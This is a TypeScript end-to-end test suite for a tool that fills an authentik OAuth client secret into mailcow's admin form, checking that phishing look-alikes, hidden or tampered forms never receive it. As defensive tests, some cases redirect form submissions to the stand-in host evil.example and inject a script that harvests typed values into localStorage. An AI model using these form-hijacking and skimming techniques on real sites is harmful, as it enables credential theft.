/**
 * The client secret is filled in only in the form of the mailcow that it is for: neither in a look-alike, nor where the
 * administrator cannot see it.
 */

import assert from "node:assert/strict";
import { test } from "node:test";

import type { Page } from "puppeteer-core";

import * as actions from "./harness/actions.ts";
import { journey } from "./harness/journey.ts";
import { Around, LookAlike } from "./harness/look-alike.ts";
import { finding, text } from "./harness/messages.ts";
import type { Panel } from "./harness/panel.ts";
import { launch, type Stage } from "./harness/stage.ts";
import { Traffic } from "./harness/traffic.ts";
import { authentikState, mailcowState } from "./harness/witness.ts";

const FORM = 'form[data-id="iam_generic"]';
const SECRET_FIELD = `${FORM} [name="client_secret"]`;

/** Ways to hide an element, as CSS declarations. */
const HIDDEN = {
  "not displayed": "display: none",
  invisible: "visibility: hidden",
  "without size": "width: 0; height: 0; min-width: 0; padding: 0; border: 0; overflow: hidden; flex: none",
  transparent: "opacity: 0",
  "beside the page": "position: absolute; left: -9999px",
  "clipped away": "clip-path: inset(100%)",
  "filtered away": "filter: opacity(0)",
  masked: "mask-image: linear-gradient(transparent, transparent)",
  shrunk: "transform: scale(0.001)",
  "nearly transparent": "opacity: 0.01",
};

/** Ways to change the form; each returns what takes it back (case S12). */
const CHANGED: Record<string, { does: (form: string) => () => void; code: string }> = {
  "an element covers the page": {
    does: () => {
      const cover = document.createElement("div");
      cover.style.cssText = "position: fixed; inset: 0; z-index: 9; background: white";
      document.body.append(cover);
      return () => cover.remove();
    },
    code: "form_covered",
  },
  "a second form in front": {
    does: (form) => {
      const copy = document.createElement("form");
      copy.dataset["id"] = "iam_generic";
      document.body.prepend(copy);
      return () => document.querySelector(form)?.remove();
    },
    code: "form_ambiguous",
  },
  "a second field of the name": {
    does: (form) => {
      const field = document.createElement("input");
      field.name = "client_secret";
      document.querySelector(form)?.prepend(field);
      return () => field.remove();
    },
    code: "form_ambiguous",
  },
  "a checkbox of the name": {
    does: (form) => {
      const field = document.querySelector<HTMLInputElement>(`${form} [name="client_secret"]`);
      if (field) field.type = "checkbox";
      return () => field?.setAttribute("type", "password");
    },
    code: "form_ambiguous",
  },
  "the field belongs to another form": {
    does: (form) => {
      const field = document.querySelector(`${form} [name="client_secret"]`);
      field?.setAttribute("form", "another");
      return () => field?.removeAttribute("form");
    },
    code: "form_field_missing",
  },
  "it is sent to another host": {
    does: (form) => {
      const element = document.querySelector(form);
      element?.setAttribute("action", "https://evil.example/");
      return () => element?.removeAttribute("action");
    },
    code: "form_elsewhere",
  },
  "it is sent to another host, and a control is named “action”": {
    does: (form) => {
      const element = document.querySelector(form);
      const control = document.createElement("input");
      control.type = "hidden";
      control.name = "action";
      element?.append(control);
      element?.setAttribute("action", "https://evil.example/");
      return () => {
        control.remove();
        element?.removeAttribute("action");
      };
    },
    code: "form_elsewhere",
  },
  "a button sends it to another host": {
    does: (form) => {
      const button = document.querySelector(`${form} [data-action="edit_selected"]`);
      button?.setAttribute("formaction", "https://evil.example/");
      return () => button?.removeAttribute("formaction");
    },
    code: "form_elsewhere",
  },
  "it is sent in the address": {
    does: (form) => {
      const element = document.querySelector(form);
      element?.setAttribute("method", "get");
      return () => element?.setAttribute("method", "post");
    },
    code: "form_elsewhere",
  },
  "a value of a megabyte": {
    does: (form) => {
      const field = document.querySelector<HTMLInputElement>(`${form} [name="authorize_url"]`);
      if (field) field.value = "x".repeat(1024 * 1024);
      return () => {
        if (field) field.value = "";
      };
    },
    code: "form_too_large",
  },
};

/** Sets up authentik; returns its tab, the panel, and the secret for mailcow. */
async function prepared(stage: Stage): Promise<{ tab: Page; panel: Panel; secret: string }> {
  await stage.installation.signIn(stage.browser.defaultBrowserContext(), "mailcow");
  const witness = await stage.open("authentik");
  const tab = await stage.visit(witness.url());
  const panel = await stage.clickToolbar(tab);
  await actions.describeSetup(stage, panel);
  await actions.planAndApply(panel);
  const secrets = (await authentikState(witness)).providers.map(({ client_secret }) => String(client_secret));
  const [secret] = secrets;
  assert.ok(secrets.length === 1 && secret?.length === 128);
  return { tab, panel, secret };
}

/** Returns what a press of Copy would copy. */
function revealed(panel: Panel): Promise<string | undefined> {
  return panel.page.evaluate(() => {
    const app = document.querySelector("cb-app") as unknown as {
      started: { core: { revealSecret(): string | undefined } };
    };
    return app.started.core.revealSecret();
  });
}

/** Returns all values of controls in a page and its frames. */
async function values(tab: Page): Promise<string[]> {
  const each = tab
    .frames()
    .map((frame) =>
      frame.$$eval("input, textarea, select", (controls) =>
        controls.map((control) => (control as HTMLInputElement).value),
      ),
    );
  return (await Promise.all(each)).flat();
}

/** Presses the button that fills in, and waits until that has ended and the panel says why. */
async function isRefused(panel: Panel, why: string): Promise<void> {
  await panel.press(text("mailcow_fill"));
  // The button has another label while it is busy.
  await panel.named("button", text("mailcow_fill"));
  await panel.says(why);
}

journey("what looks like mailcow gets no secret", async (step) => {
  await using stage = await launch({ standins: { users: 20 } });
  await using lookAlike = await LookAlike.start(stage);
  const { panel, secret } = await prepared(stage);
  const nothing = async (tab: Page): Promise<void> => {
    assert.ok(!(await values(tab)).includes(secret));
    assert.ok(!(await lookAlike.everything()).includes(secret));
  };

  await step("a mailcow under another name, opened and clicked by mistake", async () => {
    const tab = await stage.visit(lookAlike.page);
    await stage.clickToolbar(tab);
    await isRefused(panel, finding("form_at_foreign_origin", { origin: lookAlike.origin }));
    assert.ok((await values(tab)).length > 20, "its form was in sight");
    await nothing(tab);
    await panel.press(text("mailcow_save"));
    await panel.confirm();
    await panel.says(finding("form_at_foreign_origin", { origin: lookAlike.origin }));
    await nothing(tab);
    await tab.close();
  });

  await step("mailcow in a frame of a hostile page", async () => {
    using around = await Around.start(`${stage.installation.origins.mailcow}/admin/system`, lookAlike);
    const tab = await stage.visit(around.page);
    const frame = await tab.waitForFrame(async (frame) => frame !== tab.mainFrame() && (await frame.$(FORM)) !== null);
    await frame.evaluate(() =>
      document.querySelector<HTMLElement>("#tab-config-identity-provider")?.classList.add("active", "show"),
    );
    await stage.clickToolbar(tab);
    await isRefused(panel, finding("form_missing"));
    await nothing(tab);
    await tab.close();
  });

  await step("the tab goes over to it on the way to the form", async () => {
    const tab = await stage.open("mailcow");
    await tab.goto(`${stage.installation.origins.mailcow}/admin/dashboard`);
    await stage.clickToolbar(tab);
    const body = `<!DOCTYPE html><script>location.replace(${JSON.stringify(lookAlike.page)})</script>`;
    await stage.standins.control("POST", "/fault", {
      browser: {
        product: "mailcow",
        path: "/admin/system",
        count: 1,
        kind: "status",
        status: 200,
        body,
        content_type: "text/html",
      },
    });
    await panel.press(text("mailcow_fill"));
    await tab.waitForFunction(
      (page) => location.href === page && document.readyState === "complete",
      {},
      lookAlike.page,
    );
    await panel.says(text("chip_lost"));
    await nothing(tab);
    // Another click grants access again; the fill that was requested on the other site is discarded.
    await stage.clickToolbar(tab);
    await isRefused(panel, finding("form_at_foreign_origin", { origin: lookAlike.origin }));
    await nothing(tab);
    await tab.close();
  });

  await step("the tab goes over to it while the form is being read", async () => {
    const tab = await stage.open("mailcow");
    await stage.clickToolbar(tab);
    await tab.addStyleTag({ content: `${FORM} { ${HIDDEN["not displayed"]} }` });
    await panel.press(text("mailcow_fill"));
    await panel.says(text("mailcow_filling"));
    await tab.goto(lookAlike.page);
    await panel.says(text("chip_lost"));
    await nothing(tab);
    await tab.close();
  });
});

journey(
  "what is hidden gets no secret, what is in sight gets it, and nothing is sent before “Save changes”",
  async (step) => {
    await using stage = await launch({ standins: { users: 20 } });
    const { panel, secret } = await prepared(stage);
    const form = await actions.goToMailcow(stage, panel);
    const before = await mailcowState(form);
    const traffic = Traffic.of(form);
    const style = await form.addStyleTag({ content: " " });
    const dress = (rule: string): Promise<void> =>
      style.evaluate((element, rule) => void (element.textContent = rule), rule);

    for (const [what, selector] of Object.entries({ form: FORM, "field of the secret": SECRET_FIELD })) {
      await step(`the ${what} is hidden, in one way after the other`, async () => {
        for (const [how, declarations] of Object.entries(HIDDEN)) {
          await dress(`${selector} { ${declarations} }`);
          await isRefused(panel, finding("form_hidden"));
          assert.ok(!(await values(form)).includes(secret), how);
        }
      });
    }

    await step("the form is not as mailcow makes it, in one way after the other", async () => {
      await dress("");
      for (const [how, { does, code }] of Object.entries(CHANGED)) {
        const changed = await form.evaluateHandle(does, FORM);
        await isRefused(panel, finding(code));
        assert.ok(!(await values(form)).includes(secret), how);
        assert.deepEqual(traffic.writes, [], how);
        await changed.evaluate((restore) => restore());
      }
    });

    await step("the field of the secret is hidden after the form was read", async () => {
      await dress("");
      await form.$eval(
        FORM,
        (form, field) => {
          const hide = (): void => form.querySelector<HTMLElement>(field)?.style.setProperty("opacity", "0");
          form.addEventListener("input", hide, { once: true });
        },
        SECRET_FIELD,
      );
      await panel.press(text("mailcow_fill"));
      await panel.says(finding("form_hidden"));
      assert.ok(!(await values(form)).includes(secret));
      await form.$eval(SECRET_FIELD, (field) => (field as HTMLElement).style.removeProperty("opacity"));
    });

    await step(
      "another page of mailcow with the same form, on the way to the right one and instead of it",
      async () => {
        const elsewhere = `${stage.installation.origins.mailcow}/admin/dashboard`;
        const copy = await form.$eval(FORM, (form) => form.outerHTML);
        await form.evaluateOnNewDocument((copy) => {
          addEventListener("DOMContentLoaded", () => {
            if (location.pathname !== "/admin/dashboard") return;
            document.body.insertAdjacentHTML("afterbegin", copy);
            document.body.addEventListener("input", ({ target }) =>
              localStorage.setItem(
                "harvest",
                `${localStorage.getItem("harvest") ?? ""} ${(target as HTMLInputElement).value}`,
              ),
            );
          });
        }, copy);
        await form.goto(elsewhere);
        await stage.clickToolbarAgain(form);
        await panel.press(text("mailcow_fill"));
        await form.waitForFunction(() => location.pathname === "/admin/system" && document.readyState === "complete");
        await stage.clickToolbarAgain(form);
        await panel.says(text("mailcow_not_saved"));
        assert.ok((await values(form)).includes(secret));

        await form.reload();
        await stage.clickToolbarAgain(form);
        await form.addStyleTag({ content: `${FORM} { ${HIDDEN["not displayed"]} }` });
        await panel.press(text("mailcow_fill"));
        await panel.says(text("mailcow_filling"));
        await form.goto(elsewhere);
        await stage.clickToolbarAgain(form);
        await panel.named("button", text("mailcow_fill"));
        assert.ok((await form.$$(FORM)).length > 0, "the other page has such a form");
        assert.ok(!(await values(form)).includes(secret));
        assert.equal(await form.evaluate(() => localStorage.getItem("harvest")), null);
      },
    );

    await step("nothing was sent so far; mailcow’s own button sends it", async () => {
      await panel.press(text("mailcow_fill"));
      await form.waitForFunction(() => location.pathname === "/admin/system" && document.readyState === "complete");
      await stage.clickToolbarAgain(form);
      await panel.says(text("mailcow_not_saved"));
      assert.deepEqual(traffic.writes, []);
      assert.deepEqual(await mailcowState(form), before);
      await actions.pressSave(stage, form);
      await panel.says(text("mailcow_saved"));
      assert.equal((await mailcowState(form)).identityProvider["client_secret"], secret);
    });
  },
);

test("a new secret is not given to a mailcow that only knows the old one, with every setting of the right one", async () => {
  await using stage = await launch({ standins: { users: 20 } });
  await using lookAlike = await LookAlike.start(stage);
  const witness = await stage.open("mailcow");
  const panel = await stage.clickToolbar(await stage.open("authentik"));
  await actions.setUpBoth(stage, panel);
  const { identityProvider } = await mailcowState(witness);

  const tab = await stage.visit(lookAlike.page);
  await lookAlike.copy(tab, identityProvider);
  await stage.clickToolbar(tab);
  await panel.press(text("mailcow_check"));
  await panel.press(text("rotate_run"));
  await panel.confirm();
  await panel.says(finding("form_at_foreign_origin", { origin: lookAlike.origin }));
  assert.deepEqual((await mailcowState(witness)).identityProvider, identityProvider);
  const { client_secret } = identityProvider;
  assert.ok((await lookAlike.everything()).includes(String(client_secret)), "it had the old one");
  const providers = (await authentikState(await stage.open("authentik"))).providers;
  assert.deepEqual(
    providers.map((provider) => provider["client_secret"]),
    [client_secret],
  );
});

journey("what one authentik has made or had, another one is not told", async (step) => {
  await using stage = await launch({ standins: { users: 20 } });
  await using lookAlike = await LookAlike.start(stage);
  const { tab, panel, secret } = await prepared(stage);
  const other = await stage.visit(lookAlike.authentik);

  await step("a client of the same ID, without a secret, does not get the one that was made", async () => {
    const { providers } = await authentikState(tab);
    const [mine] = (await authentikState(other)).providers;
    const redirect_uris = [stage.installation.origins.mailcow, lookAlike.origin].map((url) => ({
      matching_mode: "strict",
      url,
    }));
    await lookAlike.changeProvider(mine?.["pk"], {
      client_id: providers[0]?.["client_id"],
      client_secret: "",
      redirect_uris,
    });
    await stage.clickToolbar(other);
    await panel.says(text("secret_unknown", { provider: String(mine?.["name"]) }));
    assert.equal(await revealed(panel), undefined);
  });

  await step("what was removed does not go back there", async () => {
    await stage.clickToolbar(tab);
    await panel.until(async () => (await revealed(panel)) === secret);
    const form = await actions.goToMailcow(stage, panel);
    await actions.saveForMe(stage, panel, form);
    await panel.press(text("mailcow_check"));
    await panel.press(text("remove_run"));
    await panel.confirm();
    await panel.says(text("maintenance_removed"));
    await stage.clickToolbar(other);
    // The check starts at once.
    await panel.says(finding("settings_missing"));
    // Restoring is offered only where the integration was removed.
    assert.ok(!(await panel.text()).includes(text("restore_removed_run")));
    assert.ok(!(await lookAlike.everything()).includes(secret));
    await stage.clickToolbar(tab);
    await panel.press(text("restore_removed_run"));
    await panel.says(text("maintenance_restored"));
    assert.equal((await authentikState(tab)).providers[0]?.["client_secret"], secret);
  });
});

test("a check that is asked for while another authentik is clicked on is answered for that one", async () => {
  await using stage = await launch({ standins: { users: 1, delay: 150 } });
  await using lookAlike = await LookAlike.start(stage);
  await stage.installation.signIn(stage.browser.defaultBrowserContext(), "mailcow");
  const [mine, other] = [await stage.open("authentik"), await stage.visit(lookAlike.authentik)];
  const panel = await stage.clickToolbar(mine);
  await panel.says(text("setup_title"));
  await panel.type(text("setup_mailcow"), stage.installation.origins.mailcow);
  await stage.clickToolbar(await stage.visit(stage.installation.origins.mailcow));
  await panel.says(text("mailcow_title"));

  await panel.go(text("section_check"));
  await stage.clickToolbar(other);
  await panel.says(finding("provider_differs", { count: 3 }));
});
